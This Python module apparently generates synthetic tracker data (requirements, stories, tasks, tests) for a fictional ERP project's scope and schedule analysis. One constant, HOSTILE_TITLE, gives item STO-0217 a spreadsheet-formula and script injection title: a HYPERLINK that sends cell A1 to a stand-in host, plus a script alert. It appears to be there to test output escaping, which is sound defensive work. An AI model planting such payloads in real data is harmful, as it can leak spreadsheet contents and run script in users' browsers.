"""What is in Norvane's tracker: 87 requirements, stories, tasks and tests; 1,100 items when all of them are in sight.

Items never lose their id. What a poll sees of them is in `tracker_files`.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from functools import lru_cache
from random import Random

from slipwatch.sample.calendars import SITE_R, list_working_days
from slipwatch.sample.programme import PARIS
from slipwatch.sample.tracker_tests import TESTS

REQUIREMENTS, STORIES, TASKS = 87, 360, 250

MOVED_OUT = tuple(f"REQ-{number:03d}" for number in range(74, 88))
"""The 14 requirements that Norvane moves to its internal "wave two" on 2 April: nothing was built for them yet."""
RESTORED_REQUIREMENTS = ("REQ-075", "REQ-079", "REQ-084")
DEFERRED_REQUIREMENTS = tuple(key for key in MOVED_OUT if key not in RESTORED_REQUIREMENTS)
INVOICING_STORIES = tuple(f"STO-{number:04d}" for number in range(361, 370))
"""Asked for by finance in a workshop after the freeze, entered from 9 to 13 March."""
RETURNS_STORIES = tuple(f"STO-{number:04d}" for number in range(370, 376))
"""Entered on 20 March under CR-014."""
UNLINKED_STORIES = (*(f"STO-{number:04d}" for number in range(18, 325, 18)), "STO-0350")
"""19 stories of 2025 without a requirement."""
SITE_G_ITEMS = tuple(f"STO-{number:04d}" for number in range(205, 233)) + tuple(
    f"TSK-{number:04d}" for number in range(61, 71)
)
"""38 tickets that get a sub-project of their own on 29 April."""
HOSTILE_ITEM = "STO-0217"
HOSTILE_TITLE = '=HYPERLINK("https://example.invalid/?q="&A1;"Site G") <script>alert("Site G")</script>'

LINKABLE = REQUIREMENTS - len(MOVED_OUT)
DATED_STORIES, DATED_TASKS = 150, 60
"""The first so many stories and tasks carry a due date: 210 in all."""


@dataclass(frozen=True, kw_only=True)
class Item:
    """`done_on` is None for what stays open all the time; `due_on` is a calendar day."""

    key: str
    kind: str
    project: str
    title: str
    created_at: datetime
    requirement: str | None = None
    started_on: date | None = None
    done_on: date | None = None
    due_on: date | None = None


_AREAS = (
    "Commandes",
    "Prix",
    "Stocks",
    "Achats",
    "Facturation",
    "Livraisons",
    "Comptabilité",
    "Retours",
    "Données de base",
)
_VERBS = ("saisir", "contrôler", "valider", "imprimer", "annuler", "rechercher", "corriger", "transférer", "clôturer")
_OBJECTS = (
    "une commande",
    "un avoir",
    "un lot",
    "une fiche article",
    "un client",
    "un bon",
    "un transfert",
    "une remise",
)

DONE_BEFORE_DISAPPEARANCE = 62
"""Requirements done when the 14 go out of sight: 62 of 87 becomes 62 of 73."""


@lru_cache(maxsize=4)
def list_requirements(seed: int) -> tuple[Item, ...]:
    """The 87 requirements of the scope baseline: 62 done by 20 March, the other visible ones between May and June."""
    rng = Random(f"{seed}:requirements")
    early = list_working_days(SITE_R, date(2026, 1, 6), date(2026, 3, 20))
    late = list_working_days(SITE_R, date(2026, 5, 4), date(2026, 6, 24))
    items = []
    for number in range(1, REQUIREMENTS + 1):
        key = f"REQ-{number:03d}"
        is_late = number > DONE_BEFORE_DISAPPEARANCE
        done = None if key in MOVED_OUT else rng.choice(late if is_late else early)
        items.append(
            Item(
                key=key,
                kind="requirement",
                project="ERP-CORE",
                title=_write_title(rng),
                created_at=_pick_instant(rng, date(2025, 6, 2), date(2025, 9, 26)),
                started_on=done - timedelta(days=rng.randint(10, 40)) if done else None,
                done_on=done,
            )
        )
    return tuple(items)


@lru_cache(maxsize=4)
def list_work_items(seed: int) -> tuple[Item, ...]:
    """Stories, tasks and tests in the order of their ids, those of March included."""
    rng = Random(f"{seed}:work items")
    items = (*_list_stories(rng), *_list_late_stories(rng), *_list_tasks(rng), *_list_tests(rng))
    return tuple(sorted(items, key=lambda item: item.key))


def _list_stories(rng: Random) -> Iterator[Item]:
    for number in range(1, STORIES + 1):
        key = f"STO-{number:04d}"
        yield _write_item(
            rng,
            key=key,
            kind="story",
            project="ERP-CORE",
            requirement=None if key in UNLINKED_STORIES else _link(number),
            is_dated=number <= DATED_STORIES,
        )


def _list_tasks(rng: Random) -> Iterator[Item]:
    """The last sixty belong to the interfaces of the two other projects."""
    for number in range(1, TASKS + 1):
        project = "ERP-CORE" if number <= 190 else "WMS-DC" if number <= 220 else "SOP-PLAN"
        yield _write_item(
            rng,
            key=f"TSK-{number:04d}",
            kind="task",
            project=project,
            requirement=_link(number),
            is_dated=number <= DATED_TASKS,
        )


def _list_tests(rng: Random) -> Iterator[Item]:
    for number in range(1, TESTS + 1):
        yield Item(
            key=f"TST-{number:04d}",
            kind="test",
            project="ERP-CORE",
            title=f"SIT {number:03d} – {_write_title(rng)}",
            created_at=_pick_instant(rng, date(2025, 11, 3), date(2025, 12, 19)),
            requirement=_link(number),
        )


def _list_late_stories(rng: Random) -> Iterator[Item]:
    """The fifteen stories that came after the freeze; they refer to no requirement."""
    invoicing = [date(2026, 3, 9) + timedelta(days=position * 5 // len(INVOICING_STORIES)) for position in range(9)]
    days = dict(zip(INVOICING_STORIES, invoicing, strict=True)) | dict.fromkeys(RETURNS_STORIES, date(2026, 3, 20))
    for key, day in days.items():
        topic = "Facturation électronique" if key in INVOICING_STORIES else "Retours clients"
        yield Item(
            key=key,
            kind="story",
            project="ERP-CORE",
            title=f"{topic} : {rng.choice(_VERBS)} {rng.choice(_OBJECTS)}",
            created_at=_pick_instant(rng, day, day),
            started_on=date(2026, 4, 13),
            done_on=date(2026, 5, 29),
        )


def _write_item(rng: Random, *, key: str, kind: str, project: str, requirement: str | None, is_dated: bool) -> Item:
    done = rng.choice(list_working_days(SITE_R, date(2026, 1, 6), date(2026, 6, 19)))
    due = rng.choice(list_working_days(SITE_R, date(2026, 2, 2), date(2026, 6, 30)))
    return Item(
        key=key,
        kind=kind,
        project=project,
        title=HOSTILE_TITLE if key == HOSTILE_ITEM else _write_title(rng),
        created_at=_pick_instant(rng, date(2025, 9, 1), date(2025, 12, 19)),
        requirement=requirement,
        started_on=done - timedelta(days=rng.randint(7, 60)),
        done_on=done,
        due_on=due if is_dated else None,
    )


def _link(number: int) -> str:
    """A requirement that stays in sight all the time."""
    return f"REQ-{(number - 1) % LINKABLE + 1:03d}"


def _write_title(rng: Random) -> str:
    return f"{rng.choice(_AREAS)} : {rng.choice(_VERBS)} {rng.choice(_OBJECTS)}"


def _pick_instant(rng: Random, first: date, last: date) -> datetime:
    day = first + timedelta(days=rng.randint(0, (last - first).days))
    return datetime.combine(day, time(rng.randint(8, 17), rng.randint(0, 59)), tzinfo=PARIS)
